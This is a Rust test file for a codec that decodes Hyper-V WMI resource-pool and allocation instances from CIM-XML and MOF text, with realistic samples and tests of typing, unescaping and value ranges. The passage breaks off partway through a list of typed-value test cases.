//! Tests of the embedded-instance codec (`poolcheck::codec`): realistic WMI output in both
//! CIM-XML dialects and MOF, every error variant reached by a malformed input, the typed views,
//! and round-trip properties for generated instances.

use std::collections::HashSet;

use poolcheck::codec::fuzz::{check_compact_path, check_fast_path};
use poolcheck::codec::{
    decode, decode_borrowed, decode_borrowed_compact, decode_borrowed_with_limits,
    decode_with_limits, encode, mof_normal_form, try_encode, AllocationSettingData,
    BorrowedInstance, BorrowedValue, CimType, CodecError, Encoding, Instance, Limits,
    PoolSettingData, Property, PropertyValue, ShapeEncoder, StringList,
};
use pretty_assertions::assert_eq;
use proptest::prelude::*;
use rstest::rstest;
use std::borrow::Cow;

// ------------------------------------------------------------------------------------------
// Realistic inputs

/// What `ManagementBaseObject.GetText(TextFormat.WmiDtd20)` (`GetText(2)`) writes for a pool
/// setting data instance read back from a host: class qualifiers, WMI system properties,
/// CLASSORIGIN/PROPAGATED attributes, property qualifiers and NULL properties.
const RPSD_WMIDTD20: &str = concat!(
    r#"<INSTANCE CLASSNAME="Msvm_ResourcePoolSettingData">"#,
    r#"<QUALIFIER NAME="dynamic" PROPAGATED="true" TYPE="boolean" TOSUBCLASS="false" TOINSTANCE="true"><VALUE>TRUE</VALUE></QUALIFIER>"#,
    r#"<QUALIFIER NAME="Provider" PROPAGATED="true" TYPE="string" TOSUBCLASS="false" TOINSTANCE="true"><VALUE>VmmsWmiInstanceAndMethodProvider</VALUE></QUALIFIER>"#,
    r#"<PROPERTY NAME="__PATH" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE>\\HV-HOST-01\root\virtualization\v2:Msvm_ResourcePoolSettingData.InstanceID="Microsoft:70BB60D2-A9D3-46AA-B654-3DE53004B4F8"</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="__NAMESPACE" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE>root\virtualization\v2</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="__SERVER" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE>HV-HOST-01</VALUE></PROPERTY>"#,
    r#"<PROPERTY.ARRAY NAME="__DERIVATION" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE.ARRAY><VALUE>Msvm_AbstractResourcePoolSettingData</VALUE><VALUE>CIM_SettingData</VALUE><VALUE>CIM_ManagedElement</VALUE></VALUE.ARRAY></PROPERTY.ARRAY>"#,
    r#"<PROPERTY NAME="__PROPERTY_COUNT" CLASSORIGIN="___SYSTEM" TYPE="sint32"><VALUE>14</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="__RELPATH" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE>Msvm_ResourcePoolSettingData.InstanceID="Microsoft:70BB60D2-A9D3-46AA-B654-3DE53004B4F8"</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="__DYNASTY" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE>CIM_ManagedElement</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="__SUPERCLASS" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE>Msvm_AbstractResourcePoolSettingData</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="__CLASS" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE>Msvm_ResourcePoolSettingData</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="__GENUS" CLASSORIGIN="___SYSTEM" TYPE="sint32"><VALUE>2</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="Caption" CLASSORIGIN="CIM_ManagedElement" PROPAGATED="true" TYPE="string"><QUALIFIER NAME="MaxLen" PROPAGATED="true" TYPE="uint32" TOSUBCLASS="false"><VALUE>64</VALUE></QUALIFIER><VALUE>Resource Pool Setting Data</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="Description" CLASSORIGIN="CIM_ManagedElement" PROPAGATED="true" TYPE="string"></PROPERTY>"#,
    r#"<PROPERTY NAME="ElementName" CLASSORIGIN="CIM_ManagedElement" PROPAGATED="true" TYPE="string"><VALUE>Pool-A</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="InstanceID" CLASSORIGIN="CIM_SettingData" PROPAGATED="true" TYPE="string"><QUALIFIER NAME="key" PROPAGATED="true" TYPE="boolean" TOSUBCLASS="false"><VALUE>TRUE</VALUE></QUALIFIER><VALUE>Microsoft:70BB60D2-A9D3-46AA-B654-3DE53004B4F8</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="LoadBalancingBehavior" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="uint16"><VALUE>3</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="MappingBehavior" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="uint16"></PROPERTY>"#,
    r#"<PROPERTY.ARRAY NAME="MappingOrder" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string"></PROPERTY.ARRAY>"#,
    r#"<PROPERTY NAME="Notes" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string"><VALUE>tenant &lt;blue&gt; &amp; co</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="OtherResourceType" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string"></PROPERTY>"#,
    r#"<PROPERTY NAME="PoolID" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string"><VALUE>Pool-A</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="ResourceSubType" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string"><VALUE>Microsoft:Hyper-V:Ethernet Connection</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="ResourceType" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="uint16"><VALUE>33</VALUE></PROPERTY>"#,
    r#"</INSTANCE>"#,
);

/// What `GetText(TextFormat.CimDtd20)` (`GetText(1)`) writes for a freshly spawned (not yet
/// stored) pool setting data instance, as the resource-pool samples build one: no system
/// properties, only the DMTF attributes; here pretty-printed with an XML declaration, as a
/// client that reformats the text might send it.
const RPSD_CIMDTD20: &str = r#"<?xml version="1.0" encoding="utf-16"?>
<INSTANCE CLASSNAME="Msvm_ResourcePoolSettingData">
  <PROPERTY NAME="Caption" CLASSORIGIN="CIM_ManagedElement" PROPAGATED="true" TYPE="string"/>
  <PROPERTY NAME="Description" CLASSORIGIN="CIM_ManagedElement" PROPAGATED="true" TYPE="string"/>
  <PROPERTY NAME="ElementName" CLASSORIGIN="CIM_ManagedElement" PROPAGATED="true" TYPE="string">
    <VALUE>Pool-A</VALUE>
  </PROPERTY>
  <PROPERTY NAME="InstanceID" CLASSORIGIN="CIM_SettingData" PROPAGATED="true" TYPE="string"/>
  <PROPERTY NAME="LoadBalancingBehavior" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="uint16"/>
  <PROPERTY NAME="MappingBehavior" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="uint16"/>
  <PROPERTY.ARRAY NAME="MappingOrder" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string"/>
  <PROPERTY NAME="Notes" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string"/>
  <PROPERTY NAME="OtherResourceType" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string"/>
  <PROPERTY NAME="PoolID" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string">
    <VALUE>Pool-A</VALUE>
  </PROPERTY>
  <PROPERTY NAME="ResourceSubType" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="string">
    <VALUE>Microsoft:Hyper-V:Ethernet Connection</VALUE>
  </PROPERTY>
  <PROPERTY NAME="ResourceType" CLASSORIGIN="Msvm_AbstractResourcePoolSettingData" PROPAGATED="true" TYPE="uint16">
    <VALUE> 33 </VALUE>
  </PROPERTY>
</INSTANCE>
"#;

/// `GetText(2)` of an allocation setting data for a child Ethernet pool (parent primordial,
/// `PoolId` of the parent, `HostResource` holding a switch path).
const RASD_WMIDTD20: &str = concat!(
    r#"<INSTANCE CLASSNAME="Msvm_ResourceAllocationSettingData">"#,
    r#"<QUALIFIER NAME="dynamic" PROPAGATED="true" TYPE="boolean" TOSUBCLASS="false" TOINSTANCE="true"><VALUE>TRUE</VALUE></QUALIFIER>"#,
    r#"<PROPERTY NAME="__PATH" CLASSORIGIN="___SYSTEM" TYPE="string"></PROPERTY>"#,
    r#"<PROPERTY NAME="__CLASS" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE>Msvm_ResourceAllocationSettingData</VALUE></PROPERTY>"#,
    r#"<PROPERTY.ARRAY NAME="__DERIVATION" CLASSORIGIN="___SYSTEM" TYPE="string"><VALUE.ARRAY><VALUE>CIM_ResourceAllocationSettingData</VALUE><VALUE>CIM_SettingData</VALUE><VALUE>CIM_ManagedElement</VALUE></VALUE.ARRAY></PROPERTY.ARRAY>"#,
    r#"<PROPERTY NAME="__GENUS" CLASSORIGIN="___SYSTEM" TYPE="sint32"><VALUE>2</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="Address" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"></PROPERTY>"#,
    r#"<PROPERTY NAME="AllocationUnits" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"><VALUE>count</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="AutomaticAllocation" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="boolean"><VALUE>true</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="Caption" CLASSORIGIN="CIM_ManagedElement" PROPAGATED="true" TYPE="string"><VALUE>Ethernet Connection</VALUE></PROPERTY>"#,
    r#"<PROPERTY.ARRAY NAME="Connection" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"></PROPERTY.ARRAY>"#,
    r#"<PROPERTY NAME="ConsumerVisibility" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="uint16"><VALUE>3</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="ElementName" CLASSORIGIN="CIM_ManagedElement" PROPAGATED="true" TYPE="string"><VALUE>Pool-A</VALUE></PROPERTY>"#,
    r#"<PROPERTY.ARRAY NAME="HostResource" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"><VALUE.ARRAY><VALUE>\\HV-HOST-01\root\virtualization\v2:Msvm_VirtualEthernetSwitch.CreationClassName="Msvm_VirtualEthernetSwitch",Name="C08CB7B8-9B3C-408E-8E30-5E16A3AEB444"</VALUE></VALUE.ARRAY></PROPERTY.ARRAY>"#,
    r#"<PROPERTY NAME="InstanceID" CLASSORIGIN="CIM_SettingData" PROPAGATED="true" TYPE="string"><VALUE>Microsoft:Definition\0D4E9A7C-1D45-4D0B-8F3A-2B8A8E3C1F00\Default</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="Limit" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="uint64"><VALUE>18446744073709551615</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="MappingBehavior" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="uint16"></PROPERTY>"#,
    r#"<PROPERTY NAME="OtherResourceType" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"></PROPERTY>"#,
    r#"<PROPERTY NAME="Parent" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"></PROPERTY>"#,
    r#"<PROPERTY NAME="PoolID" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"><VALUE></VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="Reservation" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="uint64"><VALUE>0</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="ResourceSubType" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"><VALUE>Microsoft:Hyper-V:Ethernet Connection</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="ResourceType" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="uint16"><VALUE>33</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="VirtualQuantity" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="uint64"><VALUE>1</VALUE></PROPERTY>"#,
    r#"<PROPERTY NAME="VirtualQuantityUnits" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"><VALUE>count</VALUE></PROPERTY>"#,
    r#"<PROPERTY.ARRAY NAME="VirtualSystemIdentifiers" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="string"></PROPERTY.ARRAY>"#,
    r#"<PROPERTY NAME="Weight" CLASSORIGIN="CIM_ResourceAllocationSettingData" PROPAGATED="true" TYPE="uint32"><VALUE>100</VALUE></PROPERTY>"#,
    r#"</INSTANCE>"#,
);

/// `GetText(1)` of a storage (VHD pool) allocation: `Msvm_StorageAllocationSettingData`, with
/// two folder paths, and a comment and CRLF line ends, as a Windows client would send it.
const SASD_CIMDTD20: &str = "<INSTANCE CLASSNAME=\"Msvm_StorageAllocationSettingData\">\r\n\
<!-- built by the ResourcePools sample -->\r\n\
<PROPERTY NAME=\"ElementName\" PROPAGATED=\"true\" TYPE=\"string\"><VALUE>VHD pool</VALUE></PROPERTY>\r\n\
<PROPERTY.ARRAY NAME=\"HostResource\" PROPAGATED=\"true\" TYPE=\"string\"><VALUE.ARRAY>\r\n\
<VALUE>C:\\VHDs\\Gold</VALUE>\r\n\
<VALUE>D:\\VHDs\\Silver</VALUE>\r\n\
</VALUE.ARRAY></PROPERTY.ARRAY>\r\n\
<PROPERTY NAME=\"PoolID\" PROPAGATED=\"true\" TYPE=\"string\"><VALUE>Gold</VALUE></PROPERTY>\r\n\
<PROPERTY NAME=\"ResourceSubType\" PROPAGATED=\"true\" TYPE=\"string\"><VALUE>Microsoft:Hyper-V:Virtual Hard Disk</VALUE></PROPERTY>\r\n\
<PROPERTY NAME=\"ResourceType\" PROPAGATED=\"true\" TYPE=\"uint16\"><VALUE>31</VALUE></PROPERTY>\r\n\
</INSTANCE>\r\n";

/// MOF as `GetObjectText` writes it (leading newline, tabs).
const RPSD_MOF: &str = "\ninstance of Msvm_ResourcePoolSettingData\n{\n\tElementName = \"Pool-A\";\n\tInstanceID = \"Microsoft:70BB60D2-A9D3-46AA-B654-3DE53004B4F8\";\n\tLoadBalancingBehavior = 3;\n\tNotes = NULL;\n\tPoolID = \"Pool-A\";\n\tResourceSubType = \"Microsoft:Hyper-V:Ethernet Connection\";\n\tResourceType = 33;\n};\n";

const RASD_MOF: &str = r#"
// Allocation from the primordial Ethernet pool.
[Description("hand-written")]
instance of Msvm_EthernetPortAllocationSettingData as $Alloc
{
    ElementName = "Pool-" "A";          /* adjacent literals concatenate */
    PoolID = "";
    ResourceType = 0x21;
    ResourceSubType = "Microsoft:Hyper-V:Ethernet Connection";
    HostResource = {"\\\\HV-HOST-01\\root\\virtualization\\v2:Msvm_VirtualEthernetSwitch.Name=\"C08C\""};
    Reservation = 0;
    Limit = 18446744073709551615;
    [Note("qualifiers before a property are skipped")]
    Weight = 0144;
    AutomaticAllocation = true;
};
"#;

// ------------------------------------------------------------------------------------------
// Helpers

/// The variant name of an error. Exhaustive, so a new variant must be added here (and, by
/// the test below, reached by some input).
fn kind(e: &CodecError) -> &'static str {
    match e {
        CodecError::TooLarge { .. } => "TooLarge",
        CodecError::TooDeep { .. } => "TooDeep",
        CodecError::TooManyProperties { .. } => "TooManyProperties",
        CodecError::ArrayTooLong { .. } => "ArrayTooLong",
        CodecError::ValueTooLarge { .. } => "ValueTooLarge",
        CodecError::Xml { .. } => "Xml",
        CodecError::Dtd { .. } => "Dtd",
        CodecError::UnexpectedElement { .. } => "UnexpectedElement",
        CodecError::MissingElement { .. } => "MissingElement",
        CodecError::MissingAttribute { .. } => "MissingAttribute",
        CodecError::InvalidName { .. } => "InvalidName",
        CodecError::UnknownCimType(_) => "UnknownCimType",
        CodecError::InvalidValue { .. } => "InvalidValue",
        CodecError::WrongShape { .. } => "WrongShape",
        CodecError::DuplicateProperty { .. } => "DuplicateProperty",
        CodecError::Mof { .. } => "Mof",
        CodecError::Empty => "Empty",
        CodecError::TrailingContent { .. } => "TrailingContent",
        CodecError::WrongClass { .. } => "WrongClass",
    }
}

fn xml_instance(body: &str) -> String {
    format!(r#"<INSTANCE CLASSNAME="Msvm_ResourcePoolSettingData">{body}</INSTANCE>"#)
}

fn xml_prop(name: &str, cim_type: &str, value: &str) -> String {
    format!(r#"<PROPERTY NAME="{name}" TYPE="{cim_type}"><VALUE>{value}</VALUE></PROPERTY>"#)
}

fn reference_xml(inner: &str) -> String {
    xml_instance(&format!(
        r#"<PROPERTY.REFERENCE NAME="Ref" REFERENCECLASS="CIM_ResourcePool"><VALUE.REFERENCE>{inner}</VALUE.REFERENCE></PROPERTY.REFERENCE>"#
    ))
}

fn decoded(text: &str) -> Instance {
    match decode(text) {
        Ok(i) => i,
        Err(e) => panic!("decoding failed: {e}\n--- input ---\n{text}"),
    }
}

fn decode_err(text: &str) -> CodecError {
    match decode(text) {
        Ok(i) => panic!("decoding succeeded but should fail: {i:?}\n--- input ---\n{text}"),
        Err(e) => e,
    }
}

fn small_limits() -> Limits {
    Limits {
        max_bytes: 4096,
        max_depth: 8,
        max_properties: 4,
        max_array_len: 3,
        max_value_bytes: 16,
    }
}

// ------------------------------------------------------------------------------------------
// Realistic decoding

#[test]
fn wmidtd20_pool_setting_data_decodes() {
    let i = decoded(RPSD_WMIDTD20);
    assert_eq!(i.class_name, "Msvm_ResourcePoolSettingData");
    assert_eq!(i.properties.len(), 22);
    assert_eq!(i.string("PoolID").unwrap().as_deref(), Some("Pool-A"));
    assert_eq!(i.string("poolid").unwrap().as_deref(), Some("Pool-A"));
    assert_eq!(i.unsigned("ResourceType").unwrap(), Some(33));
    assert_eq!(i.signed("__GENUS").unwrap(), Some(2));
    assert_eq!(
        i.string("__PATH").unwrap().as_deref(),
        Some(
            r#"\\HV-HOST-01\root\virtualization\v2:Msvm_ResourcePoolSettingData.InstanceID="Microsoft:70BB60D2-A9D3-46AA-B654-3DE53004B4F8""#
        )
    );
    assert_eq!(
        i.string_array("__DERIVATION").unwrap(),
        Some(vec![
            "Msvm_AbstractResourcePoolSettingData".to_string(),
            "CIM_SettingData".to_string(),
            "CIM_ManagedElement".to_string()
        ])
    );
    assert_eq!(
        i.string("Notes").unwrap().as_deref(),
        Some("tenant <blue> & co")
    );
    // NULL properties are present, typed, and read as None.
    let description = i.property("Description").unwrap();
    assert_eq!(description.value, PropertyValue::Null);
    assert_eq!(description.cim_type, CimType::String);
    assert_eq!(i.string("Description").unwrap(), None);
    assert_eq!(i.unsigned("MappingBehavior").unwrap(), None);
    assert_eq!(i.string_array("MappingOrder").unwrap(), None);
    assert!(i.property("MappingOrder").unwrap().is_array);
    assert_eq!(i.string("NoSuchProperty").unwrap(), None);

    let view = PoolSettingData::from_instance(&i).unwrap();
    assert_eq!(view.pool_id.as_deref(), Some("Pool-A"));
    assert_eq!(view.element_name.as_deref(), Some("Pool-A"));
    assert_eq!(view.resource_type, Some(33));
    assert_eq!(
        view.resource_subtype.as_deref(),
        Some("Microsoft:Hyper-V:Ethernet Connection")
    );
    assert_eq!(view.other_resource_type, None);
    assert_eq!(view.notes.as_deref(), Some("tenant <blue> & co"));
    assert_eq!(
        view.instance_id.as_deref(),
        Some("Microsoft:70BB60D2-A9D3-46AA-B654-3DE53004B4F8")
    );
    // 22 properties, 7 known (OtherResourceType is NULL but still known).
    assert_eq!(view.other.len(), 22 - 7);
    assert!(view.other.iter().any(|p| p.name == "LoadBalancingBehavior"));
}

#[test]
fn cimdtd20_pool_setting_data_with_declaration_and_whitespace_decodes() {
    let i = decoded(RPSD_CIMDTD20);
    assert_eq!(i.properties.len(), 12);
    // Numeric values are whitespace-tolerant; strings are not trimmed but the indentation
    // around <VALUE> is not part of the value.
    assert_eq!(
        i.property("ResourceType").unwrap().value,
        PropertyValue::Scalar("33".into())
    );
    assert_eq!(i.string("PoolID").unwrap().as_deref(), Some("Pool-A"));
    assert_eq!(i.string("InstanceID").unwrap(), None);
    let view = PoolSettingData::from_instance(&i).unwrap();
    assert_eq!(view.resource_type, Some(33));
    assert_eq!(view.instance_id, None);
}

#[test]
fn wmidtd20_allocation_setting_data_decodes() {
    let i = decoded(RASD_WMIDTD20);
    assert_eq!(i.boolean("AutomaticAllocation").unwrap(), Some(true));
    let view = AllocationSettingData::from_instance(&i).unwrap();
    assert_eq!(view.class_name, "Msvm_ResourceAllocationSettingData");
    assert_eq!(view.pool_id.as_deref(), Some(""));
    assert_eq!(view.resource_type, Some(33));
    assert_eq!(view.allocation_units.as_deref(), Some("count"));
    assert_eq!(view.virtual_quantity, Some(1));
    assert_eq!(view.reservation, Some(0));
    assert_eq!(view.limit, Some(u64::MAX));
    assert_eq!(view.weight, Some(100));
    assert_eq!(
        view.host_resource.map(|h| h.to_vec()),
        Some(vec![r#"\\HV-HOST-01\root\virtualization\v2:Msvm_VirtualEthernetSwitch.CreationClassName="Msvm_VirtualEthernetSwitch",Name="C08CB7B8-9B3C-408E-8E30-5E16A3AEB444""#.to_string()])
    );
    assert!(view
        .other
        .iter()
        .any(|p| p.name == "Parent" && p.value == PropertyValue::Null));
    assert!(view.other.iter().any(|p| p.name == "ConsumerVisibility"));
}

#[test]
fn cimdtd20_storage_allocation_with_crlf_and_comment_decodes() {
    let i = decoded(SASD_CIMDTD20);
    let view = AllocationSettingData::from_instance(&i).unwrap();
    assert_eq!(view.class_name, "Msvm_StorageAllocationSettingData");
    assert_eq!(
        view.host_resource.map(|h| h.to_vec()),
        Some(vec![
            r"C:\VHDs\Gold".to_string(),
            r"D:\VHDs\Silver".to_string()
        ])
    );
    assert_eq!(view.resource_type, Some(31));
    assert_eq!(view.pool_id.as_deref(), Some("Gold"));
    assert_eq!(view.reservation, None);
}

#[test]
fn getobjecttext_mof_decodes_with_literal_typing() {
    let i = decoded(RPSD_MOF);
    assert_eq!(i.class_name, "Msvm_ResourcePoolSettingData");
    let rt = i.property("ResourceType").unwrap();
    assert_eq!(rt.cim_type, CimType::Uint64);
    assert_eq!(rt.value, PropertyValue::Scalar("33".into()));
    assert_eq!(i.property("Notes").unwrap().value, PropertyValue::Null);
    let view = PoolSettingData::from_instance(&i).unwrap();
    assert_eq!(view.resource_type, Some(33));
    assert_eq!(view.pool_id.as_deref(), Some("Pool-A"));
    assert_eq!(view.notes, None);
    assert_eq!(view.other.len(), 1);
}

#[test]
fn hand_written_mof_with_qualifiers_alias_comments_and_literal_forms_decodes() {
    let i = decoded(RASD_MOF);
    let view = AllocationSettingData::from_instance(&i).unwrap();
    assert_eq!(view.element_name.as_deref(), Some("Pool-A"));
    assert_eq!(view.pool_id.as_deref(), Some(""));
    assert_eq!(view.resource_type, Some(33), "0x21 is hexadecimal");
    assert_eq!(view.weight, Some(100), "0144 is octal");
    assert_eq!(view.limit, Some(u64::MAX));
    assert_eq!(
        view.host_resource.map(|h| h.to_vec()),
        Some(vec![
            r#"\\HV-HOST-01\root\virtualization\v2:Msvm_VirtualEthernetSwitch.Name="C08C""#
                .to_string()
        ])
    );
    let auto = i.property("AutomaticAllocation").unwrap();
    assert_eq!(auto.cim_type, CimType::Boolean);
    assert_eq!(auto.value, PropertyValue::Scalar("TRUE".into()));
}

#[rstest]
#[case::decimal("X = 42;", CimType::Uint64, PropertyValue::Scalar("42".into()))]
#[case::negative("X = -42;", CimType::Sint64, PropertyValue::Scalar("-42".into()))]
#[case::hex("X = 0xFF;", CimType::Uint64, PropertyValue::Scalar("255".into()))]
#[case::binary("X = 101b;", CimType::Uint64, PropertyValue::Scalar("5".into()))]
#[case::octal("X = 017;", CimType::Uint64, PropertyValue::Scalar("15".into()))]
#[case::zero("X = 0;", CimType::Uint64, PropertyValue::Scalar("0".into()))]
#[case::min_sint64("X = -9223372036854775808;", CimType::Sint64, PropertyValue::Scalar("-9223372036854775808".into()))]
#[case::real("X = -1.5e3;", CimType::Real64, PropertyValue::Scalar("-1.5e3".into()))]
#[case::real_leading_dot("X = .5;", CimType::Real64, PropertyValue::Scalar(".5".into()))]
#[case::infinity("X = -INF;", CimType::Real64, PropertyValue::Scalar("-INF".into()))]
#[case::nan("X = NaN;", CimType::Real64, PropertyValue::Scalar("NaN".into()))]
#[case::boolean("X = false;", CimType::Boolean, PropertyValue::Scalar("FALSE".into()))]
#[case::char16(r"X = '\x0041';", CimType::Char16, PropertyValue::Scalar("A".into()))]
#[case::string_escapes(r#"X = "a\"b\\c\n\t\x00e9";"#, CimType::String, PropertyValue::Scalar("a\"b\\c\n\t\u{e9}".into()))]
#[case::null("X = NULL;", CimType::String, PropertyValue::Null)]
#[case::string_array(r#"X = {"a", NULL, "b"};"#, CimType::String, PropertyValue::Array(vec![Some("a".into()), None, Some("b".into())]))]
#[case::signed_array("X = {1, -2};", CimType::Sint64, PropertyValue::Array(vec![Some("1".into()), Some("-2".into())]))]
#[case::real_array("X = {1, 2.5};", CimType::Real64, PropertyValue::Array(vec![Some("1".into()), Some("2.5".into())]))]
#[case::empty_array("X = {};", CimType::String, PropertyValue::Array(vec![]))]
fn mof_literal_typing(#[case] body: &str, #[case] cim_type: CimType, #[case] value: PropertyValue) {
    let i = decoded(&format!("instance of C {{ {body} }};"));
    let p = i.property("X").unwrap();
    assert_eq!(p.cim_type, cim_type);
    assert_eq!(p.is_array, matches!(value, PropertyValue::Array(_)));
    assert_eq!(p.value, value);
}

// ------------------------------------------------------------------------------------------
// Entities, CDATA, whitespace

#[rstest]
#[case::predefined("&lt;&gt;&amp;&apos;&quot;", "<>&'\"")]
#[case::char_refs("&#x41;&#66;&#x1F600;", "AB\u{1F600}")]
#[case::cdata("<![CDATA[<b>&amp;</b>]]>", "<b>&amp;</b>")]
#[case::mixed("a<![CDATA[ & ]]>b&#x20;", "a & b ")]
#[case::leading_and_trailing_spaces_kept("  padded  ", "  padded  ")]
#[case::crlf_normalised("line1\r\nline2\rline3", "line1\nline2\nline3")]
#[case::escaped_cr_kept("a&#xD;&#xA;b", "a\r\nb")]
#[case::tab_kept("a\tb", "a\tb")]
#[case::comment_inside_value("a<!-- hidden -->b", "ab")]
#[case::empty("", "")]
fn string_values_unescape(#[case] raw: &str, #[case] expected: &str) {
    let i = decoded(&xml_instance(&xml_prop("Notes", "string", raw)));
    assert_eq!(i.string("Notes").unwrap().as_deref(), Some(expected));
}

#[test]
fn entities_in_attributes_are_decoded() {
    let i = decoded(
        r#"<INSTANCE CLASSNAME="&#x4D;svm_X"><PROPERTY NAME="&#x41;b" TYPE="uint&#x38;"><VALUE>7</VALUE></PROPERTY></INSTANCE>"#,
    );
    assert_eq!(i.class_name, "Msvm_X");
    assert_eq!(i.property("Ab").unwrap().cim_type, CimType::Uint8);
}

#[test]
fn byte_order_mark_and_leading_whitespace_are_skipped() {
    let xml = format!(
        "\u{FEFF}\n  {}",
        xml_instance(&xml_prop("A", "string", "x"))
    );
    assert_eq!(decoded(&xml).string("A").unwrap().as_deref(), Some("x"));
    let mof = "\u{FEFF}  instance of C { A = \"x\"; };";
    assert_eq!(decoded(mof).string("A").unwrap().as_deref(), Some("x"));
}

// ------------------------------------------------------------------------------------------
// Typed values

#[rstest]
#[case::uint8_max("uint8", "255", true)]
#[case::uint8_over("uint8", "256", false)]
#[case::sint8_min("sint8", "-128", true)]
#[case::sint8_under("sint8", "-129", false)]
#[case::uint16_max("uint16", "65535", true)]
#[case::uint16_over("uint16", "65536", false)]
#[case::uint16_negative("uint16", "-1", false)]
#[case::uint16_hex("uint16", "0xFFFF", true)]
#[case::uint16_hex_over("uint16", "0x10000", false)]
#[case::uint32_plus("uint32", "+7", true)]
#[case::uint64_max("uint64", "18446744073709551615", true)]
#[case::uint64_over("uint64", "18446744073709551616", false)]
#[case::sint64_min("sint64", "-9223372036854775808", true)]
#[case::huge("sint64", "99999999999999999999999999999999999999999999", false)]
#[case::not_a_number("uint32", "12a", false)]
#[case::empty_int("uint32", "", false)]
#[case::only_sign("sint32", "-", false)]
#[case::boolean_upper("boolean", "TRUE", true)]
#[case::boolean_mixed("boolean", " False ", true)]
#[case::boolean_yes("boolean", "yes", false)]
#[case::boolean_one("boolean", "1", false)]
#[case::real32("real32", "3.25", true)]
#[case::real32_over("real32", "1e39", false)]
#[case::real64_over("real64", "1e309", false)]
#[case::real64_exp("real64", "-1.5E-7", true)]
#[case::real_integer_form("real64", "5", true)]
#[case::real_trailing_dot("real64", "5.", false)]
#[case::real_inf("real64", "-INF", true)]
#[case::real_nan("real32", "NaN", true)]
#[case::real_infinity_word("real64", "infinity", false)]
#[case::char16("char16", "x", true)]
#[case::char16_space("char16", " ", true)]
#[case::char16_two("char16", "xy", false)]
#[case::char16_empty("char16", "", false)]
#[case::char16_astral("char16", "\u{1F600}", false)]
#[case::timestamp("datetime", "20240131235959.123456+060", true)]
#[case::timestamp_misplaced_dot("datetime", "2024010100000.0000000+000", false)]
#[case::timestamp_wildcards("datetime", "********235959.******+000", true)]
